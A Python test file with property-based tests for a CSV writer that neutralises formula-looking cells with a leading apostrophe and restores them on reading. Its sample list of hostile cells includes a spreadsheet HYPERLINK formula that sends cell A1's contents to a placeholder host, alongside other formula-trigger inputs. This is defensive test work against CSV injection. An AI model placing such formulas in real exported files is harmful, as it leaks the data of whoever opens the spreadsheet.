"""Formula-looking CSV cells get a leading apostrophe, and lose exactly that one when read."""

from __future__ import annotations

import csv
import io

from hypothesis import given
from hypothesis import strategies as st

from goteo.contacts.csv_cells import TRIGGERS, CsvWriter, neutralise, restore

HOSTILE = [
    '=HYPERLINK("http://x.example/?"&A1;"click")',
    "@SUM(1)",
    "+1",
    "-1",
    "\t=1",
    "\r=1",
    "'=already quoted",
    "''@twice",
]
# Text that starts with the characters that matter here more often than chance would.
cells = st.text(alphabet=st.sampled_from([*TRIGGERS, "'", "a", " ", "é", ","])) | st.text()


def test_formula_looking_cells_get_one_apostrophe() -> None:
    assert [neutralise(t) for t in HOSTILE] == ["'" + t for t in HOSTILE]
    for plain in ("Ana", "", "1", "a=b", "it's", "'quoted'", " =1"):
        assert neutralise(plain) == plain


@given(cells)
def test_restore_undoes_neutralise(text: str) -> None:
    assert restore(neutralise(text)) == text


@given(cells)
def test_a_neutralised_cell_never_starts_a_formula(text: str) -> None:
    assert not neutralise(text)[:1] or neutralise(text)[0] not in TRIGGERS


@given(st.lists(st.lists(cells, min_size=1, max_size=4), min_size=1, max_size=5))
def test_written_rows_read_back(rows: list[list[str]]) -> None:
    for raw in (False, True):
        out = io.StringIO()
        writer = CsvWriter(out, raw=raw)
        for row in rows:
            writer.writerow(row)
        read = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
        assert [[c if raw else restore(c) for c in row] for row in read] == rows


def test_none_is_an_empty_cell() -> None:
    out = io.StringIO()
    CsvWriter(out).writerow([None, "=1", 5])
    assert out.getvalue() == ",'=1,5\r\n"
